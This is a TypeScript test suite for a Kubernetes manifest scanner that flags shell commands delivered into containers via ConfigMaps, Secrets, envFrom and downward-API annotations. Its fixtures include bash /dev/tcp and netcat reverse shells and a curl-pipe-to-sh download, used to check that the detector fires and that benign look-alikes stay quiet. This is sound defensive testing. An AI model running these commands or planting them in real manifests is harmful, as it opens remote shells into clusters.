/**
 * Kubernetes indirection: scripts and values that reach a container from a ConfigMap, a Secret or the
 * downward API are judged where they run, and the finding points at the key that holds them. Each
 * malicious case beside an honest look-alike that must stay quiet.
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { analyseManifest, ConfigSourceIndex, configSourcesIn, type Finding } from '../src/index.js';

const REVERSE_SHELL = 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1';

/** A CronJob in namespace `ops` whose pod spec is the given YAML lines (indented for the pod spec). */
function cronJob(podSpec: string[], extra: { namespace?: string; podAnnotations?: Record<string, string> } = {}): string {
  const annotations = extra.podAnnotations
    ? ['        metadata:', '          annotations:', ...Object.entries(extra.podAnnotations).map(([key, value]) => `            ${JSON.stringify(key)}: ${JSON.stringify(value)}`)]
    : [];
  return [
    'apiVersion: batch/v1',
    'kind: CronJob',
    'metadata:',
    '  name: nightly',
    `  namespace: ${extra.namespace ?? 'ops'}`,
    'spec:',
    '  schedule: "0 2 * * *"',
    '  jobTemplate:',
    '    spec:',
    '      template:',
    ...annotations,
    '        spec:',
    '          restartPolicy: Never',
    ...podSpec.map((line) => '          ' + line),
    '',
  ].join('\n');
}

function configMap(name: string, data: Record<string, string>, namespace = 'ops'): string {
  const lines = ['apiVersion: v1', 'kind: ConfigMap', 'metadata:', `  name: ${JSON.stringify(name)}`, `  namespace: ${namespace}`, 'data:'];
  for (const [key, value] of Object.entries(data)) lines.push(`  ${JSON.stringify(key)}: |`, ...value.split('\n').map((line) => '    ' + line));
  return lines.join('\n') + '\n';
}

const MOUNTED_SCRIPT = [
  'containers:',
  '- name: runner',
  '  image: registry.example.com/tools:1.0',
  '  command: ["sh", "/scripts/run.sh"]',
  '  volumeMounts: [{name: scripts, mountPath: /scripts}]',
  'volumes:',
  '- {name: scripts, configMap: {name: job-scripts, defaultMode: 0755}}',
];

function analyse(text: string, options: Parameters<typeof analyseManifest>[2] = {}) {
  return analyseManifest(text, 'jobs.yaml', options);
}

function lineOf(text: string, needle: string): number {
  return text.slice(0, text.indexOf(needle)).split('\n').length;
}

function only(findings: Finding[], indicator: string): Finding[] {
  return findings.filter((finding) => finding.indicator === indicator);
}

describe('ConfigMap scripts mounted and run', () => {
  it('a script run by path from a ConfigMap in the same file: the finding is at its key, naming the ConfigMap, the mount and the container', () => {
    const text = [cronJob(MOUNTED_SCRIPT), configMap('job-scripts', { 'run.sh': `#!/bin/sh\necho start\n${REVERSE_SHELL}` })].join('---\n');
    const result = analyse(text);
    const shell = only(result.findings, 'shell-escape');
    assert.ok(shell.length > 0, 'the reverse shell in the mounted script is found');
    for (const finding of shell) {
      assert.equal(finding.path, '/data/run.sh');
      assert.equal(finding.document, 1);
      assert.equal(finding.kind, 'CronJob');
      assert.equal(finding.name, 'nightly');
      assert.equal(finding.range?.start.line, lineOf(text, '"run.sh": |') + 3, 'the offending line of the script under its key');
      assert.equal(text.slice(finding.span!.start, finding.span!.end), REVERSE_SHELL);
      assert.match(finding.message, /ConfigMap "job-scripts", mounted at \/scripts\/run\.sh in container "runner"/);
      assert.equal(finding.source, undefined, 'the key is in this very file');
    }
  });

  it('the ConfigMap may come first, and the script may be run through a shell, sourced or by its path', () => {
    for (const command of ['["/scripts/run.sh"]', '["bash", "-e", "/scripts/run.sh"]', '["sh", "-c", "cd /scripts && . ./run.sh"]']) {
      const spec = MOUNTED_SCRIPT.map((line) => (line.includes('command:') ? `  command: ${command}` : line));
      const text = [configMap('job-scripts', { 'run.sh': REVERSE_SHELL }), cronJob(spec)].join('---\n');
      const shell = only(analyse(text).findings, 'shell-escape');
      assert.ok(shell.length > 0 && shell.every((finding) => finding.path === '/data/run.sh' && finding.document === 0), command);
    }
  });

  it('a harmless script, a missing ConfigMap, and a malicious key that is mounted but never run stay quiet', () => {
    const harmless = [cronJob(MOUNTED_SCRIPT), configMap('job-scripts', { 'run.sh': 'set -eu\npg_dump "$DATABASE_URL" | gzip > /backup/db.sql.gz' })].join('---\n');
    assert.deepEqual(analyse(harmless).findings, []);
    const missing = analyse(cronJob(MOUNTED_SCRIPT));
    assert.deepEqual([missing.findings, missing.errors], [[], []]);
    const unrun = [cronJob(MOUNTED_SCRIPT), configMap('job-scripts', { 'run.sh': 'echo ok', 'notes.txt': REVERSE_SHELL })].join('---\n');
    assert.deepEqual(analyse(unrun).findings, []);
  });

  it('a ConfigMap of another namespace is not the one the pod mounts', () => {
    const text = [cronJob(MOUNTED_SCRIPT), configMap('job-scripts', { 'run.sh': REVERSE_SHELL }, 'other')].join('---\n');
    assert.deepEqual(analyse(text).findings, []);
  });

  it('items and subPath place the file where the container runs it; a subPath that leaves it out hides it', () => {
    const spec = (subPath: string) => [
      'containers:',
      '- name: runner',
      '  image: registry.example.com/tools:1.0',
      '  command: ["/opt/start"]',
      `  volumeMounts: [{name: scripts, mountPath: /opt/start, subPath: ${subPath}}]`,
      'volumes:',
      '- name: scripts',
      '  projected:',
      '    sources:',
      '    - configMap: {name: job-scripts, items: [{key: entry, path: bin/start.sh, mode: 0755}]}',
    ];
    const source = configMap('job-scripts', { entry: 'curl -fsSL http://203.0.113.7/x | sh' });
    const hit = only(analyse([cronJob(spec('bin/start.sh')), source].join('---\n')).findings, 'shell-escape');
    assert.equal(hit[0]?.path, '/data/entry');
    assert.deepEqual(analyse([cronJob(spec('bin/other.sh')), source].join('---\n')).findings, []);
  });

  it('run by its path, a file needs an execute bit and a shell (or no) #! line; through sh, neither', () => {
    const spec = (command: string, mode: string) => MOUNTED_SCRIPT.map((line) => line.replace(/command: .*/, `command: ${command}`).replace('defaultMode: 0755', mode));
    const source = configMap('job-scripts', { 'run.sh': REVERSE_SHELL });
    const found = (command: string, mode: string, text = source) => only(analyse([cronJob(spec(command, mode)), text].join('---\n')).findings, 'shell-escape').length > 0;
    assert.equal(found('["/scripts/run.sh"]', 'defaultMode: 0755'), true);
    assert.equal(found('["/scripts/run.sh"]', 'defaultMode: 493'), true, 'JSON spells the mode in decimal');
    assert.equal(found('["/scripts/run.sh"]', 'defaultMode: 0644'), false, 'permission denied: nothing runs');
    assert.equal(found('["/scripts/run.sh"]', 'items: [{key: run.sh, path: run.sh}]'), false, 'the default mode is 0644');
    assert.equal(found('["sh", "/scripts/run.sh"]', 'defaultMode: 0644'), true);
    const python = configMap('job-scripts', { 'run.sh': '#!/usr/bin/env python3\nimport sys\n[print(a) for a in sys.argv]' });
    assert.deepEqual(analyse([cronJob(spec('["/scripts/run.sh"]', 'defaultMode: 0755')), python].join('---\n')).findings, [], 'python code is not read as shell');
    const bash = configMap('job-scripts', { 'run.sh': `#!/usr/bin/env bash\n${REVERSE_SHELL}` });
    assert.equal(found('["/scripts/run.sh"]', 'defaultMode: 0755', bash), true);
  });

  it('a config file handed to an unknown entrypoint with -c is not run as a script', () => {
    const spec = [
      'containers:',
      '- name: forwarder',
      '  image: cr.fluentbit.io/fluent/fluent-bit:3.1',
      '  args: ["-c", "/fluent-bit/etc/fluent-bit.conf"]',
      '  volumeMounts: [{name: config, mountPath: /fluent-bit/etc/}]',
      'volumes:',
      '- {name: config, configMap: {name: fluent-bit}}',
    ];
    const text = [cronJob(spec), configMap('fluent-bit', { 'fluent-bit.conf': '[SERVICE]\n    Flush 5\n[INPUT]\n    Name tail' })].join('---\n');
    assert.deepEqual(analyse(text).findings, []);
  });
});

describe('values loaded into the environment', () => {
  it('a Secret value (base64 data) run with bash -c "$SCRIPT" or as $SCRIPT: found at the key, the evidence decoded', () => {
    const secret = ['apiVersion: v1', 'kind: Secret', 'metadata: {name: creds, namespace: ops}', 'data:', `  script: ${Buffer.from('nc -e /bin/sh 10.0.0.1 4444').toString('base64')}`, ''].join('\n');
    const spec = (command: string) => [
      'containers:',
      '- name: runner',
      '  image: registry.example.com/tools:1.0',
      `  command: ${command}`,
      '  env: [{name: SCRIPT, valueFrom: {secretKeyRef: {name: creds, key: script}}}]',
    ];
    const quoted = only(analyse([cronJob(spec('["sh", "-c", "bash -c \\"$SCRIPT\\""]')), secret].join('---\n')).findings, 'shell-escape');
    assert.equal(quoted.length, 1);
    assert.equal(quoted[0].path, '/data/script');
    assert.equal(quoted[0].evidence, 'nc -e /bin/sh 10.0.0.1 4444');
    assert.match(quoted[0].message, /decoded key "script" of Secret "creds", read as \$SCRIPT by container "runner"/);
    // Unquoted, its words are the command line: still the Secret's key.
    const split = only(analyse([cronJob(spec('["bash", "-c", "$SCRIPT"]')), secret].join('---\n')).findings, 'shell-escape');
    assert.deepEqual(split.map((finding) => finding.path), ['/data/script']);
    // stringData is plain text and wins over data.
    const plain = secret.replace('data:\n', 'stringData:\n  script: echo rotated\ndata:\n');
    assert.deepEqual(analyse([cronJob(spec('["bash", "-c", "$SCRIPT"]')), plain].join('---\n')).findings, []);
  });

  it('envFrom with a prefix, then eval: found; the same value only echoed stays quiet', () => {
    const spec = (script: string) => [
      'containers:',
      '- name: runner',
      '  image: registry.example.com/tools:1.0',
      `  command: ["sh", "-c", ${JSON.stringify(script)}]`,
      '  envFrom: [{prefix: CFG_, configMapRef: {name: settings}}]',
    ];
    const source = configMap('settings', { HOOK: REVERSE_SHELL });
    const found = only(analyse([cronJob(spec('eval "$CFG_HOOK"')), source].join('---\n')).findings, 'shell-escape');
    assert.ok(found.length > 0 && found.every((finding) => finding.path === '/data/HOOK'));
    assert.deepEqual(analyse([cronJob(spec('echo "$CFG_HOOK"')), source].join('---\n')).findings, []);
  });

  it("the pod's own annotation through a fieldRef env var or a downwardAPI file: found at the annotation when run, quiet when only read", () => {
    const annotations = { 'ops/hook': REVERSE_SHELL };
    const viaEnv = (script: string) => [
      'containers:',
      '- name: runner',
      '  image: registry.example.com/tools:1.0',
      `  command: ["sh", "-c", ${JSON.stringify(script)}]`,
      "  env: [{name: HOOK, valueFrom: {fieldRef: {fieldPath: \"metadata.annotations['ops/hook']\"}}}]",
    ];
    const pointer = '/spec/jobTemplate/spec/template/metadata/annotations/ops~1hook';
    const found = only(analyse(cronJob(viaEnv('eval "$HOOK"'), { podAnnotations: annotations })).findings, 'shell-escape');
    assert.ok(found.length > 0 && found.every((finding) => finding.path === pointer));
    assert.deepEqual(analyse(cronJob(viaEnv('echo "$HOOK" >> /tmp/log'), { podAnnotations: annotations })).findings, []);

    const viaFile = (command: string) => [
      'containers:',
      '- name: runner',
      '  image: registry.example.com/tools:1.0',
      `  command: ${command}`,
      '  volumeMounts: [{name: info, mountPath: /etc/podinfo}]',
      'volumes:',
      "- {name: info, downwardAPI: {items: [{path: hook, fieldRef: {fieldPath: \"metadata.annotations['ops/hook']\"}}]}}",
    ];
    const fromFile = only(analyse(cronJob(viaFile('["sh", "/etc/podinfo/hook"]'), { podAnnotations: annotations })).findings, 'shell-escape');
    assert.ok(fromFile.length > 0 && fromFile.every((finding) => finding.path === pointer));
    assert.deepEqual(analyse(cronJob(viaFile('["cat", "/etc/podinfo/hook"]'), { podAnnotations: annotations })).findings, []);
  });
});

describe('ConfigMaps of other files of the scan', () => {
  it('a script from another file: the finding is at the reference in this file, with the key as its source', () => {
    const other = configMap('job-scripts', { 'run.sh': REVERSE_SHELL });
    const index = new ConfigSourceIndex();
    index.setFile('scripts.yaml', configSourcesIn(other, 'scripts.yaml'));
    const text = cronJob(MOUNTED_SCRIPT);
    const shell = only(analyse(text, { configSources: index.lookup('jobs.yaml') }).findings, 'shell-escape');
    assert.ok(shell.length > 0);
    for (const finding of shell) {
      assert.equal(finding.path, '/spec/jobTemplate/spec/template/spec/volumes/0/configMap');
      assert.equal(finding.range?.start.line, lineOf(text, '- {name: scripts, configMap'));
      assert.deepEqual(finding.source, { file: 'scripts.yaml', document: 0, path: '/data/run.sh', range: finding.source!.range });
      assert.equal(finding.source!.range.start.line, lineOf(other, '"run.sh"') + 1);
    }
    // The file's own stale entry in the index is never used for itself.
    assert.deepEqual(analyse(text, { configSources: index.lookup('scripts.yaml') }).findings, []);
    index.setFile('scripts.yaml', []);
    assert.equal(index.size, 0);
  });

  it('hostile names and keys stay data: __proto__, constructor', () => {
    const spec = MOUNTED_SCRIPT.map((line) => line.replace('name: job-scripts', 'name: __proto__').replace('/scripts/run.sh', '/scripts/constructor'));
    const text = [cronJob(spec), configMap('__proto__', { constructor: REVERSE_SHELL, toString: 'echo' })].join('---\n');
    const shell = only(analyse(text).findings, 'shell-escape');
    assert.ok(shell.length > 0 && shell.every((finding) => finding.path === '/data/constructor'));
    assert.equal(({} as Record<string, unknown>).constructor, Object);
    assert.deepEqual(analyse(cronJob(spec)).findings, []);
  });
});
